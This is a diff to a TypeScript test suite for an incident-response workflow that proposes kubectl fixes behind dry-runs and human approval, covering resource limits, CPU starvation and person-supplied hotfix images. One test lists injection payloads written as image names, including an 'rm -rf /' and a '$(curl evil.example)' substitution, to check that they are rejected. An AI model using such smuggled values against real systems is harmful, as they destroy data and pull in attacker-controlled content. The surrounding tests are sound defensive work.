@@ -5,6 +5,7 @@
 // resolution, and the post-incident follow-up to the 1-month tasks.
 import { describe, expect, it } from 'vitest';
 import { WorkflowUpdateFailedError, type WorkflowHandle } from '@temporalio/client';
+import { ApplicationFailure } from '@temporalio/common';
 import { eventually } from '../helpers/temporal.js';
 import { timeSkippingSuite } from '../fixtures/time-skipping-suite.js';
 import { FakeCluster, webhookDown, type Scenario, type World } from '../fixtures/fake-cluster.js';
@@ -19,6 +20,7 @@ import {
   approveSignal,
   completeTaskSignal,
   decideUpdate,
+  hotfixUpdate,
   resolveSignal,
   tasksQuery,
   type IncidentInput,
@@ -86,6 +88,7 @@ describe('every diagnosis path, end to end', () => {
   }[] = [
     { scenario: 'bad-rollout', diagnosis: 'bad-rollout', decisions: ['approve'], applied: ['rollout-undo'] },
     { scenario: 'oom', diagnosis: 'oom-killed', decisions: ['approve'], applied: ['set-resources'] },
+    { scenario: 'cpu-starved', diagnosis: 'resource-starved', decisions: ['approve'], applied: ['set-resources'] },
     { scenario: 'config-error', diagnosis: 'config-drift', decisions: ['approve'], applied: ['restore-config-map'] },
     { scenario: 'selector-mismatch', diagnosis: 'selector-mismatch', decisions: ['approve'], applied: ['set-service-selector'] },
     { scenario: 'scaled-to-zero', diagnosis: 'scaled-to-zero', decisions: [], applied: ['scale'], autoApprove: ['scale'] },
@@ -141,6 +144,139 @@ describe('every diagnosis path, end to end', () => {
     expect(status.actions).toEqual([]);
     expect(cluster.callsOf('previewMutation')).toEqual([]);
     expect(cluster.callsOf('applyMutation')).toEqual([]);
+  });
+});
+
+describe("the runbook's resource values", () => {
+  it("given an OOM kill, it sets limits.memory to the runbook's 4Gi (not double) and shows the dry-run for approval", async () => {
+    const { cluster, handle } = await incident('oom');
+    const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the memory raise to await approval');
+    expect(pending.pendingApproval).toMatchObject({
+      kind: 'set-resources',
+      command: expect.stringMatching(/set resources deployment\/\S+ -c agent-manager --limits=memory=4Gi$/) as unknown,
+      preview: { wouldChange: true, changes: ['memory limit 256Mi -> 4Gi'] },
+    });
+    await decide(handle, 1, 'approve');
+    await handle.result();
+    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-resources', container: 'agent-manager', limits: { memory: '4Gi' } }]);
+  });
+
+  it('given an OOM kill under a 1Gi memory ceiling, it clamps the runbook value to the ceiling and says so', async () => {
+    const { cluster, handle } = await incident('oom', { guardrails: { maxReplicas: 10, memoryCeiling: '1Gi' } });
+    const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the memory raise to await approval');
+    expect(pending.pendingApproval?.why).toContain("the runbook's 4Gi is clamped to the memory ceiling 1Gi (MEMORY_CEILING)");
+    await decide(handle, 1, 'approve');
+    await handle.result();
+    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-resources', container: 'agent-manager', limits: { memory: '1Gi' } }]);
+  });
+
+  it("given pods starved of CPU (not OOM-killed), it proposes the runbook's requests and limits, shows their dry-run, and recovers on approval", async () => {
+    const { cluster, handle } = await incident('cpu-starved');
+    const pending = await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the resource fix to await approval');
+    expect(pending.diagnosis).toMatchObject({ category: 'resource-starved', symptom: 'unhealthy' });
+    expect(pending.diagnosis?.evidence.join('\n')).toMatch(/cpu 100m of limit 100m \(kubectl top\)/);
+    expect(pending.pendingApproval).toMatchObject({
+      kind: 'set-resources',
+      command: expect.stringMatching(/-c agent-manager --limits=cpu=2000m,memory=4Gi --requests=cpu=500m,memory=1Gi$/) as unknown,
+      preview: {
+        wouldChange: true,
+        changes: ['memory limit 256Mi -> 4Gi', 'cpu limit 100m -> 2000m', 'cpu request 50m -> 500m', 'memory request 64Mi -> 1Gi'],
+      },
+    });
+    expect(cluster.notifications.some((n) => n.notification.event === 'approval-request' && n.notification.body.includes('cpu limit 100m -> 2000m'))).toBe(
+      true,
+    );
+    await decide(handle, 1, 'approve');
+    const outcome = await handle.result();
+    expect(outcome.resolution).toBe('mitigated');
+    expect(cluster.failure()).toBeUndefined();
+    const status = await statusOf(handle);
+    // Verified as the runbook says: rollout status first, then the pods and endpoints.
+    expect(status.timeline.map((t) => t.text)).toContainEqual(expect.stringMatching(/successfully rolled out/));
+  });
+});
+
+describe('a hotfix image from a person (runbook: kubectl set image)', () => {
+  const incidents = (): Incidents => new Incidents(suite.env.client, loadClientConfig({ DEFAULT_CLUSTER: 'test' }));
+
+  it('given a rejected rollback, when an approver supplies a hotfix image, it is dry-run, approved, applied, rolled out, verified and on the timeline', async () => {
+    const { cluster, handle } = await incident('bad-rollout', { approval: { approvers: ['alice', 'bob'], autoApprove: { default: ['set-image'] } } });
+    await decide(handle, 1, 'reject');
+    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
+    // Nothing proposes a set image by itself, even with the policy auto-approving the kind.
+    expect(cluster.callsOf('previewMutation').map((c) => (c.args[0] as { action: { kind: string } }).action.kind)).toEqual(['rollout-undo']);
+
+    const image = `${handle.workflowId.split('/')[3] ?? ''}:hotfix-v1.0.1`;
+    const outcome = await incidents().proposeHotfix(handle.workflowId, 'bob', image, { comment: 'fixes the registry import' });
+    expect(outcome).toMatchObject({ image, by: 'bob', next: 'now: dry-run, then an approval request' });
+
+    const pending = await waitForStatus(handle, (s) => s.pendingApproval?.kind === 'set-image', 'the hotfix to await approval');
+    // Always a person's approval: the policy's auto-approval of set-image does not apply to a person's image.
+    expect(pending.pendingApproval).toMatchObject({
+      action: 2,
+      command: expect.stringMatching(new RegExp(`set image deployment/\\S+ agent-manager=${image.replace('.', '\\.')}$`)) as unknown,
+      why: expect.stringContaining('supplied by bob (fixes the registry import)') as unknown,
+      preview: { wouldChange: true, changes: [expect.stringMatching(new RegExp(`-> ${image}$`)) as unknown] },
+    });
+    expect(cluster.callsOf('applyMutation')).toEqual([]);
+    await decide(handle, 2, 'approve');
+    const result = await handle.result();
+    const status = await statusOf(handle);
+
+    expect(result.resolution).toBe('mitigated');
+    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-image', container: 'agent-manager', image }]);
+    expect(cluster.failure()).toBeUndefined();
+    const timeline = status.timeline.map((t) => t.text);
+    expect(timeline).toContainEqual(expect.stringContaining(`hotfix image ${image} supplied by bob`));
+    expect(timeline).toContainEqual(expect.stringMatching(/^#2 applied: image .* -> /));
+    // Runbook: "Monitor deployment: kubectl rollout status" after the set image.
+    expect(cluster.callsOf('waitForRollout')).toHaveLength(1);
+    expect(timeline).toContainEqual(expect.stringMatching(/successfully rolled out/));
+  });
+
+  it.each([
+    ['shell metacharacters', 'agent-native-framework:v1;rm${IFS}-rf${IFS}/', /is not an image reference/],
+    ['command substitution', '$(curl${IFS}evil.example)', /is not an image reference/],
+    ['a quote that would end the command line', "app:v1'&&kubectl", /is not an image reference/],
+    ['a kubectl flag smuggled in', 'app:v1 --namespace=kube-system', /whitespace or control characters/],
+    ['upper case repository', 'Agent-Native:v1', /is not an image reference/],
+    ['no tag or digest', 'agent-native-framework', /names no tag or digest/],
+    ['a tag over 128 characters', `app:${'a'.repeat(129)}`, /is not an image reference/],
+  ])('refuses a hotfix image with %s, with a clear error, and proposes nothing', async (_what, image, message) => {
+    const { cluster, handle } = await incident('bad-rollout');
+    await decide(handle, 1, 'reject');
+    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
+    expect(await refusalOf(handle.executeUpdate(hotfixUpdate, { args: [{ by: 'alice', image }] }))).toMatch(message);
+    await expect(incidents().proposeHotfix(handle.workflowId, 'alice', image)).rejects.toThrow(message);
+    await suite.env.sleep('1m');
+    expect((await statusOf(handle)).actions).toHaveLength(1);
+    expect(cluster.callsOf('previewMutation')).toHaveLength(1);
+  });
+
+  it('drops a hotfix with a note when the investigation before it fails, instead of looking again and again', async () => {
+    const { cluster, handle } = await incident('bad-rollout');
+    await decide(handle, 1, 'reject');
+    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
+    const looks = cluster.callsOf('inspectWorkload').length;
+    cluster.fail('inspectWorkload', () => ApplicationFailure.nonRetryable('403 forbidden: deployments', 'Forbidden'), { calls: 1 });
+    await incidents().proposeHotfix(handle.workflowId, 'alice', 'agent-native-framework:hotfix-v1.0.1');
+    const status = await waitForStatus(
+      handle,
+      (s) => s.timeline.some((t) => t.text.includes('not proposed: the investigation failed')),
+      'the hotfix to be dropped',
+    );
+    await suite.env.sleep('5m');
+    expect(cluster.callsOf('inspectWorkload')).toHaveLength(looks + 1);
+    expect(status.actions).toHaveLength(1);
+    expect(cluster.callsOf('previewMutation')).toHaveLength(1);
+  });
+
+  it('refuses a hotfix from someone not on the approver list', async () => {
+    const { handle } = await incident('bad-rollout', { approval: { approvers: ['alice'] } });
+    await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
+    expect(await refusalOf(handle.executeUpdate(hotfixUpdate, { args: [{ by: 'mallory', image: 'agent-native-framework:hotfix-v1.0.1' }] }))).toMatch(
+      /mallory is not an allowed approver/,
+    );
   });
 });
 
